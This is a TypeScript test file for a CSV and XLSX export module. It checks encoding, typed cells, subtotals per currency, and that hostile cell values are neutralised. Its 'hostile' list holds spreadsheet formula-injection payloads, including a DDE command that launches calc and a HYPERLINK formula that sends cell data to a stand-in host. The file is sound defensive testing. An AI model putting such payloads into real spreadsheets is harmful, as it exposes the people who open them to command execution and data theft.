import { parseCsv, read } from 'hucre'
import { expect, test } from 'vitest'
import { csvOf } from './csv'
import type { ExportColumn } from './export-cells'
import { xlsxOf } from './xlsx'

interface Row {
  name: string | null
  amount: string | null
  date: string | null
  currency: string
}
const columns: ExportColumn<Row>[] = [
  { id: 'name', header: '=Name', kind: 'text', value: (row) => row.name },
  { id: 'amount', header: 'Amount', kind: 'number', unit: (row) => row.currency, value: (row) => row.amount },
  { id: 'date', header: 'Date', kind: 'day', value: (row) => row.date },
]
const row = (name: string | null, amount: string | null = '1', currency = 'USD'): Row => ({ name, amount, date: '2026-11-21', currency })

/** Texts that make a spreadsheet compute, fetch or run something. */
const hostile = [
  '=1+1',
  '=HYPERLINK("http://x.example?"&A1)',
  "=cmd|' /C calc'!A0",
  '+1',
  '-1+1|cmd',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1',
  '＝1+1',
  '＠x',
]
const plain = ['Harbor "Supplies", Ltd', 'two\r\nlines', ' spaced ', 'a=b', 'O’Neil', '日本', "'quoted", '7', 'true']

const csvRows = (bytes: Uint8Array) => parseCsv(new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes).slice(1))
const sheetOf = async (bytes: Uint8Array) => (await read(bytes)).sheets[0]

test('a CSV has a byte order mark, CRLF, and gives back what was written', () => {
  const bytes = csvOf(
    columns,
    plain.map((name) => row(name, '-5.00')),
  )
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)
  expect(text.startsWith('\uFEFF')).toBe(true)
  expect(text.endsWith('\r\n')).toBe(true)
  expect(csvRows(bytes)).toEqual([["'=Name", 'Amount', 'Date'], ...plain.map((name) => [name, '-5.00', '2026-11-21'])])
})

test.each(hostile)('%j is no formula in either format, and negative numbers stay numbers', async (name) => {
  const rows = [row(name, '-5.25')]
  // Programs with other separators split the cell at a line break or tab: the rest must be harmless as well.
  expect(csvRows(csvOf(columns, rows))[1]?.[0]).toBe(`'${name.replace(/^[\t\r\n]/, "$&'")}`)
  expect(csvRows(csvOf(columns, rows))[1]?.[1]).toBe('-5.25')
  const sheet = await sheetOf(await xlsxOf('list', columns, rows))
  expect(String(sheet?.rows[1]?.[0]).replace(/\s|\0/g, '')).toBe(`'${name}`.replace(/\s|\0/g, ''))
  expect(sheet?.rows[1]?.[1]).toBe(-5.25)
})

test('what only claims to be a number or a day is text, and as harmless as text', () => {
  const rows = [{ ...row('a', '=1+1'), date: '@x' }]
  expect(csvRows(csvOf(columns, rows))[1]).toEqual(['a', "'=1+1", "'@x"])
})

test('a workbook has typed cells, a frozen header and sums that follow its filter', async () => {
  const bytes = await xlsxOf('list', columns, [row('a', '1.50'), row('b', '2.25'), row(null, null)])
  const sheet = await sheetOf(bytes)
  expect(sheet?.freezePane?.rows).toBe(1)
  expect(sheet?.rows.slice(0, 2)).toEqual([
    ["'=Name", 'Amount', 'Date'],
    ['a', 1.5, new Date('2026-11-21T00:00:00Z')],
  ])
  expect(sheet?.cells?.get('4,1')).toMatchObject({ formula: 'SUBTOTAL(109,B2:B4)', formulaResult: 3.75 })
})

test('amounts of two currencies have a sum each, which follow the filter too', async () => {
  const withCurrency: ExportColumn<Row>[] = [...columns, { id: 'currency', header: 'Currency', kind: 'text', value: ({ currency }) => currency }]
  const sheet = await sheetOf(await xlsxOf('list', withCurrency, [row('a'), row('b', '2', 'EUR'), row('c', '0.5', 'EUR')]))
  expect(sheet?.rows).toHaveLength(6)
  expect(sheet?.rows.slice(4).map((cells) => cells[3])).toEqual(['EUR', 'USD'])
  const formula = (unit: string) => `SUMPRODUCT(SUBTOTAL(109,OFFSET(B2,ROW(B2:B4)-ROW(B2),0)),--(D2:D4="${unit}"))`
  expect(sheet?.cells?.get('4,1')).toMatchObject({ formula: formula('EUR'), formulaResult: 2.5 })
  expect(sheet?.cells?.get('5,1')).toMatchObject({ formula: formula('USD'), formulaResult: 1 })
})

test('amounts of two currencies have no sum where no cell names the currency', async () => {
  const sheet = await sheetOf(await xlsxOf('list', columns, [row('a'), row('b', '2', 'EUR')]))
  expect(sheet?.rows).toHaveLength(3)
})

test('a long list is written piece by piece, with the same cells', async () => {
  const rows = Array.from({ length: 6000 }, (_, index) => row(`=${index}`, `${index}.5`))
  let turns = 0
  const counting = setInterval(() => turns++, 0)
  const sheet = await sheetOf(await xlsxOf('list', columns, rows))
  clearInterval(counting)
  expect(turns).toBeGreaterThan(5)
  expect(sheet?.rows).toHaveLength(6001)
  expect(sheet?.rows[6000]).toEqual(["'=5999", 5999.5, new Date('2026-11-21T00:00:00Z')])
  expect(sheet?.freezePane?.rows).toBe(1)
})
